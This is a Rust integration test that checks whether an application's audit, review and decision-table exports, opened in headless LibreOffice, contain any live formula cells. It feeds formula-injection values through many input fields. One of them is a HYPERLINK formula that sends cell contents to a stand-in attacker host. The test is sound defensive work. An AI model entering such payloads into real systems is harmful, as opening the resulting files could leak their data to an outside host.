//! Exports opened in a real spreadsheet program (QUALITY 28): LibreOffice Calc, headless, reads each CSV export
//! with its formulas evaluated (the CSV filter's "evaluate formulas") and each workbook as it is, and not one cell
//! is a formula — though values that would be were entered through every field a person or an integration
//! writes: process IDs, reasons, comments, causes, evidence, incident texts, error messages of step events, and
//! the sign-in name and display name an identity provider sends. A control file with a bare formula shows that
//! the check sees one.
use crate::fixtures::{caller, stalled};
use crate::harness::{PASSWORD, TestApp, example_config};
use backend::oidc::Identity;
use backend::services::{approvals, company_sign_in, holds, incidents, rerun_requests};
use domain::approval::Decision;
use domain::roles::Role;
use reqwest::Method;
use serde_json::json;
use std::path::{Path, PathBuf};

/// What a spreadsheet runs: a formula, with spaces before it, in full-width forms, and the other starts.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
    "  =1+1",
    "＝1+1",
    "+81-3-1234",
    "-1-1",
    "@SUM(1,1)",
    "\t=2+2",
];

fn formula(i: usize) -> &'static str {
    FORMULAS[i % FORMULAS.len()]
}

/// The identity provider's settings; nothing is fetched from it here (the sign-in is handed its identity).
fn company_sign_in_config() -> backend::config::Config {
    let mut config = example_config();
    config.sign_in.oidc =
        Some(crate::fixtures::company_sign_in("https://idp.example.co.jp", &[("sales-approvers", Role::Manager)]));
    config
}

/// Each file converted by LibreOffice to flat OpenDocument, with the number of formula cells in it.
fn formulas_in(files: &[&Path], csv: bool) -> Vec<(String, usize)> {
    let work = std::env::temp_dir().join(format!("spreadsheets-{}", uuid::Uuid::new_v4().simple()));
    let out = work.join("out");
    let mut soffice = std::process::Command::new("soffice");
    soffice.arg(format!("-env:UserInstallation=file://{}", work.join("profile").display())).arg("--headless");
    if csv {
        // Comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas.
        soffice.arg("--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true");
    }
    let ran = soffice.args(["--convert-to", "fods", "--outdir"]).arg(&out).args(files).output();
    let ran = ran.expect("LibreOffice Calc (soffice) is installed: make deps-test installs it");
    assert!(ran.status.success(), "soffice: {}", String::from_utf8_lossy(&ran.stderr));
    let counted = files
        .iter()
        .map(|file| {
            let stem = file.file_stem().unwrap().to_string_lossy().into_owned();
            let fods = std::fs::read_to_string(out.join(format!("{stem}.fods"))).expect("converted");
            (stem, fods.matches("table:formula=").count())
        })
        .collect();
    let _ = std::fs::remove_dir_all(&work);
    counted
}

fn saved(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_of_any_export_is_a_formula_in_a_spreadsheet_whatever_people_and_integrations_wrote() {
    let app = TestApp::spawn_configured(|_| {}, company_sign_in_config()).await;
    let token = app.token("intake", &["sales"]).await;
    app.user("sato", &["staff"], &["sales"]).await;
    app.user("suzuki", &["manager"], &["sales"]).await;
    app.user("kansa", &["auditor"], &[]).await;
    let (sato, suzuki) = (caller(&app, "sato").await, caller(&app, "suzuki").await);
    let s = &app.state;

    // An integration: a process ID that starts like a formula, and an error message that is one.
    stalled(&app, &token, "-1-1").await;
    let failed = json!({"seq": 2, "type": "failed", "error": {"class": "server_error", "message": formula(0)}});
    app.api(Method::POST, "/api/v1/operations/-1-1/steps/ai_summary/events", &token, None, Some(&failed)).await;
    // People: a hold and its release, a rerun request with its checks, a rejection, a manual verdict, an incident.
    holds::place(s, &sato, "-1-1", formula(1)).await.unwrap();
    holds::release(s, &sato, "-1-1", formula(2)).await.unwrap();
    let started = rerun_requests::start(s, &sato, "-1-1", formula(3)).await.unwrap();
    let contract::reruns::StartAnswer::Created { id } = started else { panic!("the plan should be ready") };
    for n in 1..=5 {
        let cause =
            rerun_requests::Cause { class: Some("outside_service_outage".into()), text: Some(formula(4).into()) };
        rerun_requests::confirm(s, &sato, &id, n, formula(n as usize), cause).await.unwrap();
    }
    rerun_requests::submit(s, &sato, &id).await.unwrap();
    approvals::decide(s, &suzuki, &id, Decision::Reject, formula(5)).await.unwrap();
    holds::manual_verdict(s, &suzuki, "-1-1", "ai_summary", domain::reconciliation::Verdict::Unknown, formula(6))
        .await
        .unwrap();
    let texts = incidents::TextsForm {
        title: formula(0).into(),
        occurred_at: "2026-01-05T09:00".into(),
        impact: formula(1).into(),
        cause: formula(2).into(),
        response: formula(3).into(),
    };
    incidents::file(s, &sato, "-1-1", texts).await.unwrap();
    // A company account whose sign-in name and display name, as the provider sends them, are formulas.
    let identity = Identity {
        issuer: "https://idp.example.co.jp".into(),
        subject: "00u-formula".into(),
        username: "=1+1".into(),
        display_name: formula(0).into(),
        email: None,
        groups: vec!["sales-approvers".into()],
        auth_time: None,
        amr: vec![],
        acr: None,
        team: None,
        entra: None,
    };
    company_sign_in::sign_in(s, &identity, None).await.unwrap();

    let auditor = app.sign_in("kansa", PASSWORD).await;
    let manager = app.sign_in("suzuki", PASSWORD).await;
    let get = |path: &'static str, cookie: String| {
        let request = app.http.get(format!("{}{path}", app.url)).header("cookie", cookie);
        async move {
            let answer = request.send().await.unwrap();
            assert!(answer.status().is_success(), "{path}: {}", answer.status());
            answer.bytes().await.unwrap().to_vec()
        }
    };
    let audit = get("/audit/export?format=csv", auditor).await;
    let review = get("/reviews.csv", manager.clone()).await;
    let workbook = get("/decision-table.xlsx", manager).await;
    // Every value entered is in the audit export: as a cell of its own, or inside a cell's JSON.
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&audit[..]);
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect();
    for entered in FORMULAS.map(str::trim) {
        let in_json = serde_json::to_string(entered).unwrap();
        let in_json = &in_json[1..in_json.len() - 1];
        assert!(cells.iter().any(|c| c.contains(entered) || c.contains(in_json)), "{entered:?} is in the audit export");
    }

    let dir = std::env::temp_dir().join(format!("exports-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let control = saved(&dir, "control.csv", b"a,b\r\n=1+1,x\r\n");
    let csvs = [control.as_path(), &saved(&dir, "audit.csv", &audit), &saved(&dir, "review.csv", &review)];
    let found = formulas_in(&csvs, true);
    assert_eq!(found[0], ("control".to_string(), 1), "the check sees a formula when there is one");
    assert_eq!(&found[1..], [("audit".to_string(), 0), ("review".to_string(), 0)]);
    let found = formulas_in(&[&saved(&dir, "decision-table.xlsx", &workbook)], false);
    assert_eq!(found, [("decision-table".to_string(), 0)]);
    let _ = std::fs::remove_dir_all(&dir);
}
